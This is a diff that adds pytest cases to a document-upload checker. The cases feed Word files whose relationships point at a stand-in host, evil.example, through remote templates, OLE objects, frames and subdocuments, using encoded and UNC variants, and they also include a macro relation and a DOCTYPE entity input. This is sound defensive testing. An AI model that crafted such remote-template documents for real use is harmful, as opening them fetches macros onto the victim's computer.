@@ -231,6 +231,48 @@ def test_entries_that_lead_out_of_the_archive_or_hide_another_are_refused(name):
     assert "damaged" in refusal("a.docx", office((name, "x")))
 
 
+def related(kind, target, mode="External"):
+    """A Word file with one relation."""
+    relation = f'<Relationship Id="r1" Type="http://x.example/{kind}" Target="{target}" TargetMode="{mode}"/>'
+    return office(("word/_rels/settings.xml.rels", f"<Relationships>{relation}</Relationships>"))
+
+
+@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "frame", "aFChunk", "image", "subDocument"])
+@pytest.mark.parametrize(
+    "target",
+    [
+        "http://evil.example/a.dotm", "HTTPS://evil.example/a", "//evil.example/a", "\\\\evil.example\\a", "file://evil.example/a",
+        "file:////evil.example/a", "file:///\\evil.example\\a", "%68ttp://evil.example/a", "smb://evil.example/a", " ftp://e.example",
+    ],
+)  # fmt: skip
+def test_a_file_that_fetches_something_when_it_is_opened_is_refused(kind, target):
+    """Checklist 25: a template from elsewhere brings its macros to whoever opens our file."""
+    assert "another computer" in refusal("a.docx", related(kind, target))
+
+
+@pytest.mark.parametrize(
+    ("kind", "target", "mode"),
+    [
+        ("hyperlink", "https://example.kz/", "External"),
+        ("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm", "External"),
+        ("attachedTemplate", "C:\\Users\\a\\Normal.dotm", "External"),
+        ("attachedTemplate", "Normal.dotm", "External"),
+        ("image", "media/image1.png", "Internal"),
+    ],
+)
+def test_links_and_what_lies_in_the_file_are_no_reason(kind, target, mode):
+    data = related(kind, target, mode)
+    assert check_upload("a.docx", io.BytesIO(data)).size == len(data)
+
+
+def test_relations_that_are_none_or_too_many_are_refused():
+    name = "word/_rels/document.xml.rels"
+    assert "macros" in refusal("a.docx", related("vbaProject", "harmless.bin", "Internal"))
+    assert "damaged" in refusal("a.docx", office((name, "<x")))
+    assert "damaged" in refusal("a.docx", office((name, '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>')))
+    assert "too much space" in refusal("a.docx", office((name, f"<x>{' ' * 3_000_000}</x>")))
+
+
 def test_macros_and_passwords_are_named_as_the_reason():
     assert "macros" in refusal("a.docx", office(("word/vbaProject.bin", "x")))
     assert "macros" in refusal("a.doc", ole("WordDocument", "Macros"))
